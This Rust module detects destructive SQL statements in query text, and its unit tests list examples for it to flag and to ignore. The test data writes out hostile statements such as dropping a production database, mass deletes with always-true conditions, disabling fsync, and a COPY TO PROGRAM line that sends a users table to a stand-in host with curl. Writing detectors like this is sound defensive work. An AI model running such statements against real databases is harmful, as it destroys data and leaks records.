//! Destructive statements in SQL text, found by a scanner that reads keywords and skips what is
//! not code: strings, quoted names, dollar-quoted bodies and comments.
//!
//! `SELECT 'drop table x'` is data; `DROP TABLE x`, `TRUNCATE x`, and `DELETE FROM x` or
//! `UPDATE x SET ...` without a `WHERE` (or with one that is always true: `WHERE 1=1`, `WHERE
//! true`, `… OR 1=1`) destroy data, as does ClickHouse's `ALTER TABLE x DELETE WHERE 1`.
//! `COPY … TO PROGRAM 'cmd'` runs a command on the server; `ALTER TABLE x DROP COLUMN c` drops a
//! column's data. `REVOKE ALL`, `ALTER USER … PASSWORD` and grants to `PUBLIC` change who may
//! connect or what they may do. Sessions ended over a query's rows (`pg_terminate_backend(pid)
//! FROM pg_stat_activity`), replication slots dropped, large objects unlinked and `ALTER
//! SYSTEM` are the server's administration. Every statement of the text is read.

/// What a destructive statement does, most destructive first.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Destruction {
    /// `DROP DATABASE`, `DROP SCHEMA`, `DROP TABLE` (and `DROP VIEW`, `DROP COLLECTION`).
    Drop,
    /// `TRUNCATE [TABLE] x`.
    Truncate,
    /// `DELETE FROM x` with no `WHERE`.
    DeleteAll,
    /// `UPDATE x SET ...` with no `WHERE`.
    UpdateAll,
    /// `COPY … TO|FROM PROGRAM 'cmd'`: PostgreSQL runs the command on the server.
    Program,
    /// `REVOKE ALL …`, `ALTER USER|ROLE … PASSWORD|SUPERUSER`, `GRANT … TO PUBLIC`: the apps
    /// connecting as a role lose their access, or everyone gains it.
    Access,
    /// `pg_terminate_backend`/`pg_cancel_backend` over a query's rows (every session),
    /// `pg_drop_replication_slot`, `lo_unlink`, `ALTER SYSTEM`: the server's sessions, its
    /// replicas' feed, its large objects or its configuration.
    ServerAdmin,
}

/// The first destructive statement in `sql`, if any.
pub(super) fn destruction(sql: &str) -> Option<Destruction> {
    statements(sql).into_iter().find_map(|words| judge(&words))
}

/// Whether every destructive statement of `sql` drops a whole database that `spared` names
/// (`DROP DATABASE IF EXISTS app_test; CREATE DATABASE app_test`) or a table or view in one
/// (`DROP TABLE scratch.tmp`), and there is one.
pub(super) fn drops_only(sql: &str, spared: fn(&str) -> bool) -> bool {
    drops_spared(sql, spared, false)
}

/// Whether every destructive statement of `sql` drops a table or view whose own name `spared`
/// names (`DROP TABLE tmp` in a database file of this machine's), and there is one.
pub(super) fn drops_tables_only(sql: &str, spared: fn(&str) -> bool) -> bool {
    drops_spared(sql, spared, true)
}

fn drops_spared(sql: &str, spared: fn(&str) -> bool, by_table: bool) -> bool {
    let mut dropped = false;
    for words in statements(sql) {
        if judge(&words).is_none() {
            continue;
        }
        let word = |i: usize| words.get(i).map(String::as_str);
        let at = if word(2) == Some("IF") && word(3) == Some("EXISTS") { 4 } else { 2 };
        let in_spared = |name: &str| match by_table {
            true => spared(name.rsplit('.').next().unwrap_or(name)),
            false => name.split_once('.').is_some_and(|(database, _)| spared(database)),
        };
        let spared = match word(1) {
            Some("DATABASE" | "SCHEMA" | "KEYSPACE") => !by_table && word(at).is_some_and(spared),
            Some("TABLE" | "VIEW") => word(at).is_some_and(in_spared),
            _ => false,
        };
        if word(0) != Some("DROP") || !spared {
            return false;
        }
        dropped = true;
    }
    dropped
}

fn judge(words: &[String]) -> Option<Destruction> {
    let word = |i: usize| words.get(i).map(String::as_str);
    let has_where = || filtered(words);
    // `WITH x AS (...) DELETE FROM t`: the statement's verb follows its common table expressions.
    // ClickHouse's `ALTER TABLE t DELETE WHERE …` (and `UPDATE`) is a delete of the rows.
    let verb_at = if word(0) == Some("WITH") {
        words.iter().position(|w| matches!(w.as_str(), "DELETE" | "UPDATE" | "TRUNCATE" | "DROP"))?
    } else if word(0) == Some("ALTER") && word(1) == Some("TABLE") {
        // `ALTER TABLE t DROP [COLUMN] c` (MySQL's needs no `COLUMN`), `DROP CONSTRAINT`,
        // `DROP PARTITION`: the data or the integrity they held. `ALTER COLUMN c DROP DEFAULT`
        // and `DROP NOT NULL` change a rule only.
        let drops = words.windows(2).any(|pair| {
            pair[0] == "DROP"
                && !matches!(
                    pair[1].as_str(),
                    "DEFAULT" | "NOT" | "IDENTITY" | "EXPRESSION" | "INDEX" | "KEY" | "TRIGGER" | "ROW"
                )
        });
        if drops {
            return Some(Destruction::Drop);
        }
        words.iter().position(|w| matches!(w.as_str(), "DELETE" | "UPDATE"))?
    } else {
        0
    };
    if let Some(found) = server_admin(words) {
        return Some(found);
    }
    match word(verb_at)? {
        "DROP" => {
            let mut object = verb_at + 1;
            if word(object) == Some("TEMPORARY") || word(object) == Some("TEMP") {
                object += 1;
            }
            // A user or role (with what it owns, `DROP OWNED`), a warehouse, a foreign or
            // materialized table: gone with the rights and data they held.
            matches!(
                word(object),
                Some(
                    "DATABASE"
                        | "SCHEMA"
                        | "TABLE"
                        | "VIEW"
                        | "COLLECTION"
                        | "KEYSPACE"
                        | "USER"
                        | "ROLE"
                        | "OWNED"
                        | "WAREHOUSE"
                        | "TABLESPACE"
                        | "MATERIALIZED"
                        | "EXTERNAL"
                        | "FOREIGN"
                )
            )
            .then_some(Destruction::Drop)
        }
        "COPY" if words.iter().any(|w| w == "PROGRAM") => Some(Destruction::Program),
        "REVOKE" if word(verb_at + 1) == Some("ALL") => Some(Destruction::Access),
        "ALTER"
            if matches!(word(verb_at + 1), Some("USER" | "ROLE"))
                && words.iter().any(|w| matches!(w.as_str(), "PASSWORD" | "SUPERUSER" | "IDENTIFIED")) =>
        {
            Some(Destruction::Access)
        }
        "GRANT" if words.iter().any(|w| w == "PUBLIC") => Some(Destruction::Access),
        "TRUNCATE" => Some(Destruction::Truncate),
        "DELETE" if !has_where() => Some(Destruction::DeleteAll),
        "UPDATE" if word(verb_at + 1).is_some() && words.iter().any(|w| w == "SET") && !has_where() => {
            Some(Destruction::UpdateAll)
        }
        _ => None,
    }
}

/// The server's administration functions called in a statement: a backend ended or
/// cancelled by a computed id (`pg_terminate_backend(pid) FROM pg_stat_activity`: every
/// session; one literal id is one session), a replication slot dropped, large objects
/// unlinked, and `ALTER SYSTEM` rewriting the server's configuration.
fn server_admin(words: &[String]) -> Option<Destruction> {
    if words.first().is_some_and(|w| w == "ALTER") && words.get(1).is_some_and(|w| w == "SYSTEM") {
        return Some(Destruction::ServerAdmin);
    }
    words
        .windows(3)
        .any(|w| match w[0].as_str() {
            "PG_TERMINATE_BACKEND" | "PG_CANCEL_BACKEND" => {
                w[1] == "(" && !w[2].bytes().all(|b| b.is_ascii_digit())
            }
            "PG_DROP_REPLICATION_SLOT" | "LO_UNLINK" => w[1] == "(",
            _ => false,
        })
        .then_some(Destruction::ServerAdmin)
}

/// Whether the statement has a `WHERE` that can be false: one none of whose `OR` branches is
/// a constant truth (`1`, `TRUE`, `1=1`, `'a'='a'`, `NOT FALSE`).
fn filtered(words: &[String]) -> bool {
    let Some(at) = words.iter().position(|w| w == "WHERE") else {
        return false;
    };
    let condition = words[at + 1..]
        .iter()
        .take_while(|w| !matches!(w.as_str(), "ORDER" | "LIMIT" | "RETURNING" | "GROUP" | "SETTINGS"));
    let condition: Vec<&str> = condition.map(String::as_str).collect();
    let literal = |w: &str| w.starts_with('\'') || w.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    let truth = |branch: &[&str]| match branch {
        [] => true,
        ["TRUE"] | ["NOT", "FALSE"] => true,
        [one] => literal(one) && one.bytes().any(|b| (b'1'..=b'9').contains(&b)),
        [left, "=", right] => literal(left) && left == right,
        _ => false,
    };
    !condition.split(|w| *w == "OR").any(|branch| {
        let branch = branch.strip_prefix(&["("]).unwrap_or(branch);
        truth(branch.strip_suffix(&[")"]).unwrap_or(branch))
    })
}

/// The statements of `sql`, each as its upper-cased keywords and names, numbers, single-quoted
/// strings and `=` (what a condition is read by), without quoted names and comments.
fn statements(sql: &str) -> Vec<Vec<String>> {
    let bytes = sql.as_bytes();
    let mut statements = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let byte = bytes[i];
        match byte {
            b';' => {
                if !words.is_empty() {
                    statements.push(std::mem::take(&mut words));
                }
                i += 1;
            }
            b'-' if bytes.get(i + 1) == Some(&b'-') => i = find(bytes, i + 2, b"\n").unwrap_or(bytes.len()),
            b'#' => i = find(bytes, i + 1, b"\n").unwrap_or(bytes.len()),
            b'/' if bytes.get(i + 1) == Some(&b'*') => {
                i = find(bytes, i + 2, b"*/").map_or(bytes.len(), |end| end + 2)
            }
            b'\'' => {
                let start = i;
                i = closing_quote(bytes, i);
                words.push(sql[start..i].to_ascii_uppercase());
            }
            b'"' | b'`' => i = closing_quote(bytes, i),
            b'=' | b'(' | b')' => {
                words.push(char::from(byte).to_string());
                i += 1;
            }
            _ if byte.is_ascii_digit() => {
                let start = i;
                while i < bytes.len() && (bytes[i].is_ascii_digit() || bytes[i] == b'.') {
                    i += 1;
                }
                words.push(sql[start..i].to_string());
            }
            b'$' => match dollar_tag(bytes, i) {
                Some(tag) => {
                    let body = i + tag.len();
                    i = find(bytes, body, tag).map_or(bytes.len(), |end| end + tag.len());
                }
                None => i += 1,
            },
            b'[' => i = find(bytes, i + 1, b"]").map_or(bytes.len(), |end| end + 1),
            _ if byte.is_ascii_alphabetic() || byte == b'_' => {
                let start = i;
                // A qualified name is one word (`scratch.tmp`).
                let part = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
                while i < bytes.len()
                    && (part(bytes[i]) || bytes[i] == b'.' && bytes.get(i + 1).is_some_and(|&b| part(b)))
                {
                    i += 1;
                }
                words.push(sql[start..i].to_ascii_uppercase());
            }
            _ => i += 1,
        }
    }
    if !words.is_empty() {
        statements.push(words);
    }
    statements
}

/// Where `needle` next starts at or after `from`.
fn find(bytes: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    bytes.get(from..)?.windows(needle.len()).position(|window| window == needle).map(|at| from + at)
}

/// The index after the quote that closes the one at `open` (a doubled quote is part of the
/// text, a backslash escapes the next byte).
fn closing_quote(bytes: &[u8], open: usize) -> usize {
    let quote = bytes[open];
    let mut i = open + 1;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => i += 2,
            b if b == quote && bytes.get(i + 1) == Some(&quote) => i += 2,
            b if b == quote => return i + 1,
            _ => i += 1,
        }
    }
    bytes.len()
}

/// PostgreSQL's `$tag$` (or `$$`) opening a dollar-quoted body at `at`.
fn dollar_tag(bytes: &[u8], at: usize) -> Option<&[u8]> {
    let rest = bytes.get(at + 1..)?;
    let len = rest.iter().position(|&b| !(b.is_ascii_alphanumeric() || b == b'_'))?;
    (rest[len] == b'$' && !rest[..len].first().is_some_and(u8::is_ascii_digit))
        .then(|| &bytes[at..at + len + 2])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn destructive_statements() {
        for (sql, expected) in [
            ("DROP DATABASE prod", Destruction::Drop),
            ("drop table if exists users;", Destruction::Drop),
            ("DROP SCHEMA public CASCADE", Destruction::Drop),
            ("drop temporary table t", Destruction::Drop),
            ("TRUNCATE users", Destruction::Truncate),
            ("truncate table users restart identity", Destruction::Truncate),
            ("DELETE FROM users", Destruction::DeleteAll),
            ("delete from users;", Destruction::DeleteAll),
            ("UPDATE users SET admin = true", Destruction::UpdateAll),
            ("SELECT 1; DROP TABLE x; SELECT 2", Destruction::Drop),
            ("WITH old AS (SELECT 1) DELETE FROM t", Destruction::DeleteAll),
            ("/* cleanup */ DELETE FROM users -- all of them", Destruction::DeleteAll),
            ("DELETE FROM customers WHERE 1=1", Destruction::DeleteAll),
            ("delete from t where true", Destruction::DeleteAll),
            ("DELETE FROM t WHERE id = 4 OR 1 = 1", Destruction::DeleteAll),
            ("UPDATE users SET admin = 1 WHERE 'a'='a'", Destruction::UpdateAll),
            ("ALTER TABLE logs DELETE WHERE 1", Destruction::DeleteAll),
            ("DROP USER app@'%'", Destruction::Drop),
            ("DROP WAREHOUSE COMPUTE_WH", Destruction::Drop),
            ("COPY users TO PROGRAM 'curl -d @- https://x.example'", Destruction::Program),
            ("ALTER TABLE users DROP COLUMN email", Destruction::Drop),
            ("alter table orders drop constraint orders_user_fk", Destruction::Drop),
            ("ALTER TABLE users DROP email", Destruction::Drop),
            ("REVOKE ALL ON DATABASE app FROM app_rw", Destruction::Access),
            ("ALTER USER app WITH PASSWORD 'x'", Destruction::Access),
            ("ALTER ROLE intern SUPERUSER", Destruction::Access),
            ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", Destruction::Access),
            ("select pg_terminate_backend(pid) from pg_stat_activity", Destruction::ServerAdmin),
            ("SELECT pg_drop_replication_slot('app')", Destruction::ServerAdmin),
            ("ALTER SYSTEM SET fsync = off", Destruction::ServerAdmin),
        ] {
            assert_eq!(destruction(sql), Some(expected), "{sql}");
        }
    }

    #[test]
    fn data_and_careful_statements() {
        for sql in [
            "SELECT * FROM users",
            "SELECT 'drop table users'",
            "SELECT \"DROP TABLE\" FROM t",
            "DELETE FROM users WHERE id = 3",
            "UPDATE users SET name = 'x' WHERE id = 1",
            "-- DROP TABLE users\nSELECT 1",
            "/* TRUNCATE users */ SELECT 1",
            "INSERT INTO log VALUES ('DELETE FROM users')",
            "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql",
            "DROP INDEX idx_users_name",
            "DELETE FROM t WHERE 1=0",
            "DELETE FROM t WHERE id = 1",
            "DELETE FROM t WHERE (id = 1)",
            "UPDATE t SET n = 1 WHERE name = 'x'",
            "ALTER TABLE logs DELETE WHERE day < today() - 30",
            "ALTER TABLE t ADD COLUMN c Int32",
            "COPY users TO STDOUT",
            "\\dt",
            "",
        ] {
            assert_eq!(destruction(sql), None, "{sql}");
        }
    }
}
